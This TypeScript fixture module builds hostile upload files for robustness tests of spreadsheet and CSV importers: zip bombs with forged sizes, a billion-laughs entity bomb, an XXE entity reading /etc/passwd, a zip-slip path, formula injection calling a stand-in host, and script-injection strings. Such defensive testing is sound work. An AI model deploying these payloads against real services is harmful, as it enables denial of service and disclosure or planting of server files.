import { constants, deflateRawSync, gzipSync } from "node:zlib";

// Files that nobody sends who means well, to be thrown at whatever takes a file: the readers, the forms, the routes.

const MEGABYTE = 1_000_000;
const HEADING = "authority_code,published_on,theme,severity,items";
const ROW = "E08000018,2023-07-14,care_leavers,improvement,1";

/** A part of a packed file; what it says of its size, and that many copies of its text, may be lies and many. */
type Part = { name: string; text: string; times?: number; saysSize?: number };

/** The text so many times over, compressed as one stream without ever being whole. */
function compressed(text: string, times: number): Buffer {
  const block = deflateRawSync(text, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array.from({ length: times - 1 }, () => block), deflateRawSync(text, { level: 9 })]);
}

/** A packed file of parts, written by hand so that it may lie. The checksum of what is there so many times over is not said: it comes too late. */
function zipOf(parts: readonly Part[]): Uint8Array {
  const [bodies, contents]: [Buffer[], Buffer[]] = [[], []];
  let at = 0;
  for (const { name, text, times = 1, saysSize } of parts) {
    const [packed, named] = [compressed(text, times), Buffer.from(name)];
    const about = Buffer.alloc(26);
    about.writeUInt16LE(20, 0);
    about.writeUInt16LE(8, 4);
    // The checksum of gzip is that of packed files too.
    if (times === 1) gzipSync(text, { level: 1 }).subarray(-8, -4).copy(about, 10);
    about.writeUInt32LE(packed.length, 14);
    about.writeUInt32LE(saysSize ?? Buffer.byteLength(text) * times, 18);
    about.writeUInt16LE(named.length, 22);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    about.copy(entry, 6, 0, 24);
    entry.writeUInt32LE(at, 42);
    bodies.push(Buffer.from("PK\u0003\u0004", "latin1"), about, named, packed);
    contents.push(entry, named);
    at += 30 + named.length + packed.length;
  }
  const table = Buffer.concat(contents);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(table.length, 12);
  end.writeUInt32LE(at, 16);
  return new Uint8Array(Buffer.concat([...bodies, table, end]));
}

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const TYPES = `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const related = (to: string, type: string) =>
  `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RELATED}/${type}" Target="${to}"/></Relationships>`;

/** A workbook whose one sheet is the given XML. */
function workbookOf(sheet: Omit<Part, "name">, more: readonly Part[] = []): Uint8Array {
  const book = `${XML}<workbook xmlns="${MAIN}" xmlns:r="${RELATED}"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>`;
  return zipOf([
    { name: "[Content_Types].xml", text: TYPES },
    { name: "_rels/.rels", text: related("xl/workbook.xml", "officeDocument") },
    { name: "xl/workbook.xml", text: book },
    { name: "xl/_rels/workbook.xml.rels", text: related("worksheets/sheet1.xml", "worksheet") },
    { name: "xl/worksheets/sheet1.xml", ...sheet },
    ...more,
  ]);
}

const sheetOf = (rows: string) => `${XML}<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData></worksheet>`;
const inCell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;
const inRow = (nth: string, cells: string) => `<row r="${nth}">${cells}</row>`;
const typed = HEADING.split(",").map((name, nth) => inCell(`${"ABCDE"[nth]}1`, name));

/** Ten names, each made of ten of the one before: a few hundred letters that become a thousand million. */
function entityBomb(): string {
  const names = Array.from({ length: 10 }, (_, nth) =>
    nth === 0 ? '<!ENTITY a0 "aaaaaaaaaa">' : `<!ENTITY a${nth} "${`&a${nth - 1};`.repeat(10)}">`,
  );
  const sheet = sheetOf(inRow("1", inCell("A1", "&a9;"))).slice(XML.length);
  return `${XML}<!DOCTYPE x [${names.join("")}]>${sheet}`;
}

const outside = `${XML}<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${sheetOf(inRow("1", inCell("A1", "&f;"))).slice(XML.length)}`;

/** A workbook that nothing is wrong with but what stands in it, so that what refuses the others is not how they are made. */
export const wellMeant = (): Uint8Array => {
  const filled = ROW.split(",").map((text, nth) => inCell(`${"ABCDE"[nth]}2`, text));
  return workbookOf({ text: sheetOf(inRow("1", typed.join("")) + inRow("2", filled.join(""))) });
};

/** Made anew at each call: together they are many megabytes. */
export const ATTACK_FILES: readonly { name: string; says: string; make(): Uint8Array }[] = [
  xlsx("a gigabyte of spaces packed into one of a thousandth", () =>
    workbookOf({ text: " ".repeat(MEGABYTE), times: 1000 }),
  ),
  xlsx("the same, and it says that it is small", () =>
    workbookOf({ text: " ".repeat(MEGABYTE), times: 300, saysSize: 1000 }),
  ),
  xlsx("the same, and it says that it is nothing", () =>
    workbookOf({ text: " ".repeat(MEGABYTE), times: 300, saysSize: 0 }),
  ),
  xlsx("names made of names made of names", () => workbookOf({ text: entityBomb() })),
  xlsx("a name that stands for a file of the server", () => workbookOf({ text: outside })),
  xlsx("two thousand parts", () =>
    workbookOf(
      { text: sheetOf(inRow("1", typed.join(""))) },
      Array.from({ length: 2000 }, (_, nth) => ({ name: `xl/${nth}.xml`, text: "" })),
    ),
  ),
  xlsx("a part that is called as a file above", () =>
    workbookOf({ text: sheetOf(inRow("1", inCell("A1", "x"))) }, [
      { name: "../../../../tmp/planted.txt", text: "planted" },
    ]),
  ),
  xlsx("a cell in the last column and row that a sheet can have", () =>
    workbookOf({ text: sheetOf(inRow("1", typed.join("")) + inRow("1048576", inCell("XFD1048576", "x"))) }),
  ),
  xlsx("a cell far beyond those", () =>
    workbookOf({ text: sheetOf(inRow("999999999", inCell("ZZZZZZZ999999999", "x"))) }),
  ),
  xlsx("a cell of ten megabytes", () =>
    workbookOf({ text: sheetOf(inRow("1", inCell("A1", "x".repeat(10 * MEGABYTE)))) }),
  ),
  xlsx("formulas that call out", () =>
    workbookOf({
      text: sheetOf(inRow("1", `<c r="A1"><f>WEBSERVICE("http://planted.test/")</f><v>1</v></c>`)),
    }),
  ),
  xlsx("nothing but its beginning", () => workbookOf({ text: sheetOf("") }).slice(0, 200)),
  csv("a million columns", () => `${"a,".repeat(MEGABYTE)}\n${"1,".repeat(MEGABYTE)}\n`),
  csv("a quarter of a million rows", () => `${HEADING}\n${`${ROW}\n`.repeat(MEGABYTE / 4)}`),
  csv("a million empty rows", () => "\n".repeat(MEGABYTE)),
  csv("a cell of ten megabytes", () => `${HEADING}\nE08000018,2023-07-14,${"x".repeat(10 * MEGABYTE)},improvement,1\n`),
  csv("a quotation mark that is never closed", () => `${HEADING}\n"E08000018,${`${ROW}\n`.repeat(20_000)}`),
  csv("a quotation mark before every letter", () => `${HEADING}\n${'"x'.repeat(200_000)}\n`),
  csv("nothing but quotation marks", () => '"'.repeat(2 * MEGABYTE + 1)),
  csv("NULs", () => `${HEADING}\nE0800\u000018,2023-07-14,care_leavers,improvement,1\n`),
  csv(
    "letters that turn the line round",
    () => `${HEADING}\n\u202EE08000018\u2066,2023-07-14,\u200Bcse_response,improvement,1\n`,
  ),
  csv("formulas", () => `${HEADING}\n=HYPERLINK("http://planted.test"),+1,-1,@SUM(1),"\t=1"\n`),
  csv("markup", () => `${HEADING}\n<script>alert(1)</script>,<img src=x onerror=alert(1)>,x,x,x\n`),
  csv(
    "a heading that is a script, and a prototype's names",
    () => "__proto__,constructor,<script>alert(1)</script>\n1,2,3\n",
  ),
  csv(
    "numbers that are none",
    () => `${HEADING}\nE08000018,2023-07-14,care_leavers,improvement,1e999\nE08000018,275760-09-13,x,x,-0\n`,
  ),
  raw("half of a letter in UTF-8", () => bytesOf(`${HEADING}\nE08000018,`, [0xed, 0xa0, 0x80, 0x0a])),
  raw("half of a letter in UTF-16", () =>
    bytesOf("", [0xff, 0xfe, ...wide(`${HEADING}\nE08`), 0x00, 0xd8, 0x0a, 0x00]),
  ),
  raw("an odd number of bytes that says it is UTF-16", () => bytesOf("", [0xff, 0xfe, 0x61])),
  raw("bytes that are nothing", () => Uint8Array.from({ length: 5000 }, (_, nth) => (nth * 197 + 131) & 255)),
  raw("nothing", () => new Uint8Array(0)),
  raw("more than may be sent", () => new Uint8Array(21 * MEGABYTE).fill(97)),
];

function xlsx(says: string, make: () => Uint8Array) {
  return { name: "table.xlsx", says: `a workbook: ${says}`, make };
}

function csv(says: string, make: () => string) {
  return { name: "table.csv", says: `a table: ${says}`, make: () => new TextEncoder().encode(make()) };
}

function raw(says: string, make: () => Uint8Array) {
  return { name: "table", says: `a file: ${says}`, make };
}

function wide(text: string): number[] {
  return [...Buffer.from(text, "utf16le")];
}

function bytesOf(text: string, more: readonly number[]): Uint8Array {
  return Uint8Array.from([...new TextEncoder().encode(text), ...more]);
}
